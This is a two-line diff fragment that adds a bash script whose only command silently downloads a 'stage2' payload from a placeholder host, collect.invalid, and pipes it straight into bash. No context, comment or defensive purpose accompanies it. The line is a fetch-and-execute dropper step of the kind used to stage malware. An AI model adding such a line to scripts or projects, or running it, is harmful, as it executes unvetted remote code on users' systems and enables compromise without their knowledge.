@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL https://collect.invalid/stage2 | bash
